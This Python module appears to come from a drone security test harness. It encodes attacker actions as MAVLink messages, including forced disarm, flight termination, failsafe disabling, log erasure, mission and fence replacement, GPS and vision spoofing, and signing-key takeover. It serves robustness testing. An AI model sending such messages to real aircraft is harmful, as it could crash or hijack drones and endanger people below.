"""What strangers do, in MAVLink's and a stack's own terms. They need no answer: whoever attacks does not ask."""

from __future__ import annotations

import math
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from typing import Any, NamedTuple

from harness.actors.acts import (
    Act,
    ChokeRadio,
    ClearMission,
    Disarm,
    DrainBattery,
    EraseLogs,
    FlyTo,
    ForgeVision,
    LandHere,
    Lead,
    MoveHome,
    MoveOrigin,
    MoveReceiver,
    MoveSimulatedReceiver,
    PushSticks,
    Reboot,
    ReplaceFence,
    ReplaceMission,
    ReplaceRally,
    SetMode,
    SkipAhead,
    SpoilCorrections,
    Steer,
    Streamed,
    SwitchOffFailsafe,
    TakeKey,
    TellRemoteId,
    Terminate,
    Tilt,
)
from harness.actors.aircraft import Flying
from harness.actors.remote_id import broadcast_of
from harness.actors.rogue import STRANGERS_KEY
from harness.errors import VehicleError
from harness.reading.place import place_of
from harness.reading.stack import Geodetic
from harness.timeline import Position
from harness.vehicles.base import ARM, SET_MODE, Vehicle
from harness.vehicles.mission import Mission, MissionItem
from harness.vehicles.mission_upload import FENCE, MISSION, RALLY, upload
from harness.vehicles.parameter_service import on_wire
from harness.vehicles.service_acts import Line, service_lines
from harness.vehicles.services import Correspondent

LAND, TERMINATE, SET_HOME, REPOSITION, REBOOT = 21, 185, 179, 192, 246
FORCE = 21196.0
FENCE_CORNER, RALLY_POINT = 5001, 5100
"""MAV_CMD_NAV_FENCE_POLYGON_VERTEX_INCLUSION, MAV_CMD_NAV_RALLY_POINT."""
VELOCITY_ONLY = 0b0000_1101_1100_0111
"""POSITION_TARGET_TYPEMASK: all but the three velocities is to be ignored."""
LOCAL_NED = 1
NO_RATES = 0b0000_0111
"""ATTITUDE_TARGET_TYPEMASK: the three body rates are to be ignored."""
LEADS_AT_M, FORGED_AT_M = 500.0, 1000.0
"""East of home."""


class Ground(NamedTuple):
    """What an attacker may have watched: where home is, and what is flown."""

    home: Geodetic
    mission: Mission

    def place(self, north_m: float, east_m: float) -> tuple[float, float]:
        """Degrees."""
        there = place_of(self.home, north_m, east_m, 0.0)
        return there.lat_deg, there.lon_deg


async def commit(act: Act, culprit: Correspondent, vehicle: Vehicle, ground: Ground) -> None:
    """Do it, from first frame to last; that the drone refuses is no error."""
    uploads = _uploads(act, vehicle, ground)
    if uploads is not None:
        kind, items = uploads
        # Nobody who attacks waits long for one who does not answer.
        with suppress(VehicleError):
            await upload(culprit, str(act), items, kind=kind, answer_s=1.0, sends=1)
        return
    lines = [*service_lines(act, vehicle.stack, vehicle.station.drone)] or [*_lines(act, vehicle, ground)]
    count, every_s = _times(act)
    for number in range(count):
        if number:
            await culprit.clock.sleep_until(culprit.clock.now_s() + every_s)
        for name, fields in lines:
            culprit.send(name, **fields)


def _times(act: Act) -> tuple[int, float]:
    """How often all of an act is sent, and the seconds between."""
    if isinstance(act, Streamed):
        return max(1, round(act.for_s * act.rate_hz)), 1.0 / act.rate_hz
    return 1, 0.0


def _uploads(act: Act, vehicle: Vehicle, ground: Ground) -> tuple[int, list[MissionItem]] | None:
    match act:
        case ReplaceMission():
            return MISSION, vehicle.mission_items(_beside(ground, act.east_m))
        case ReplaceFence():
            half_m = act.side_m / 2
            corners = [(-half_m, -half_m), (half_m, -half_m), (half_m, half_m), (-half_m, half_m)]
            places = [ground.place(*each) for each in corners]
            return FENCE, [MissionItem(FENCE_CORNER, (4.0, 0.0, 0.0, 0.0), *place, 0.0) for place in places]
        case ReplaceRally():
            return RALLY, [MissionItem(RALLY_POINT, (0.0, 0.0, 0.0, 0.0), *ground.place(0.0, act.east_m), 30.0)]
        case _:
            return None


def _beside(ground: Ground, east_m: float) -> Mission:
    """The same mission, so many metres farther east."""
    shift_deg = ground.place(0.0, east_m)[1] - ground.home.lon_deg
    items = [replace(item, lon_deg=item.lon_deg + shift_deg) if item.lon_deg else item for item in ground.mission.items]
    return replace(ground.mission, items=tuple(items))


def _lines(act: Act, vehicle: Vehicle, ground: Ground) -> Iterator[Line]:
    target = dict(zip(("target_system", "target_component"), vehicle.station.drone, strict=True))

    def command(number: int, *params: float) -> Line:
        named = {f"param{index}": value for index, value in enumerate(params, 1)}
        return "COMMAND_LONG", {**target, "command": number, **named}

    def placed(number: int, *params: float, north_m: float, east_m: float, alt_m: float) -> Line:
        named = {f"param{index}": value for index, value in enumerate(params, 1)}
        lat_deg, lon_deg = ground.place(north_m, east_m)
        there = {"x": round(lat_deg * 1e7), "y": round(lon_deg * 1e7), "z": alt_m}
        return "COMMAND_INT", {**target, "frame": 0, "command": number, **named, **there}

    match act:
        case Disarm():
            yield command(ARM, 0.0, FORCE if act.force else 0.0)
        case Terminate():
            yield command(TERMINATE, 1.0)
        case Reboot():
            yield command(REBOOT, 1.0)
        case SetMode():
            yield command(SET_MODE, *vehicle.mode_params(act.mode))
        case LandHere():
            yield command(LAND)
        case FlyTo():
            alt_m = ground.home.alt_m + ground.mission.altitude_m
            yield placed(REPOSITION, -1.0, 1.0, 0.0, math.nan, north_m=act.north_m, east_m=act.east_m, alt_m=alt_m)
        case MoveHome():
            yield placed(SET_HOME, 0.0, north_m=act.north_m, east_m=act.east_m, alt_m=ground.home.alt_m)
        case SwitchOffFailsafe():
            off = vehicle.failsafe_off
            value = on_wire(off.value, off.type, bytewise=vehicle.bytewise)
            yield "PARAM_SET", {**target, "param_id": off.name, "param_value": value, "param_type": off.type}
        case MoveOrigin():
            lat_deg, lon_deg = ground.place(act.north_m, act.east_m)
            origin = {"latitude": round(lat_deg * 1e7), "longitude": round(lon_deg * 1e7)}
            height = {"altitude": round(ground.home.alt_m * 1e3)}
            yield "SET_GPS_GLOBAL_ORIGIN", {"target_system": target["target_system"], **origin, **height}
        case EraseLogs():
            yield "LOG_ERASE", target
        case ClearMission():
            yield "MISSION_CLEAR_ALL", {**target, "mission_type": MISSION}
        case SkipAhead():
            before = len(vehicle.mission_items(ground.mission)) - len(ground.mission.items)
            yield "MISSION_SET_CURRENT", {**target, "seq": before + act.item}
        case _:
            yield from _streamed(act, target, ground)


def _streamed(act: Act, target: dict[str, int], ground: Ground) -> Iterator[Line]:
    match act:
        case PushSticks(manual=True):
            yield "MANUAL_CONTROL", {"target": target["target_system"], "x": 0, "y": 1000, "z": 500, "r": 0}
        case PushSticks():
            yield "RC_CHANNELS_OVERRIDE", {**target, "chan1_raw": 2000, "chan2_raw": 1500, "chan3_raw": 1500}
        case Steer():
            how = {"coordinate_frame": LOCAL_NED, "type_mask": VELOCITY_ONLY, "vy": act.speed_mps}
            yield "SET_POSITION_TARGET_LOCAL_NED", {**target, **how}
        case Tilt():
            half = math.radians(act.roll_deg) / 2
            attitude = {"q": (math.cos(half), math.sin(half), 0.0, 0.0), "thrust": 0.5, "type_mask": NO_RATES}
            yield "SET_ATTITUDE_TARGET", {**target, **attitude}
        case Lead():
            yield "FOLLOW_TARGET", {**_place(ground, LEADS_AT_M), "est_capabilities": 1}
        case DrainBattery():
            told = {"voltages": (9000,), "current_battery": -1, "battery_remaining": 1, "charge_state": 5}
            yield "BATTERY_STATUS", {"id": 0, **told, "temperature": 32767}
        case ChokeRadio():
            yield "RADIO_STATUS", {"rssi": 20, "remrssi": 20, "txbuf": 0}
        case MoveReceiver():
            place = _place(ground, FORGED_AT_M)
            yield "GPS_INPUT", {"fix_type": 3, "satellites_visible": 14, "hdop": 0.7, "vdop": 0.9, **place}
        case MoveSimulatedReceiver():
            place = _place(ground, FORGED_AT_M) | {"alt": round(ground.home.alt_m * 1e3)}
            yield "HIL_GPS", {"fix_type": 3, "satellites_visible": 14, "eph": 70, "epv": 90, **place}
        case SpoilCorrections():
            yield "GPS_RTCM_DATA", {"len": 180, "data": (0xD3, *range(179))}
        case ForgeVision():
            yield "VISION_POSITION_ESTIMATE", {"y": FORGED_AT_M, "z": -ground.mission.altitude_m}
        case TakeKey():
            key = bytes(32) if act.remove else STRANGERS_KEY
            yield "SETUP_SIGNING", {**target, "secret_key": tuple(key), "initial_timestamp": 0 if act.remove else 1}
        case TellRemoteId():
            there = Position(200.0, 0.0, 30.0)
            spot = place_of(ground.home, there.north_m, there.east_m, there.up_m)
            yield from broadcast_of(act.uas_id, Flying(there, 0.0, 5.0, 0.0), spot, unix_s=0.0)
        case _:
            raise TypeError(f"no stack was ever told what {act} is")


def _place(ground: Ground, east_m: float) -> dict[str, Any]:
    """In 1e-7 degrees, and metres above the sea."""
    lat_deg, lon_deg = ground.place(0.0, east_m)
    return {"lat": round(lat_deg * 1e7), "lon": round(lon_deg * 1e7), "alt": ground.home.alt_m}
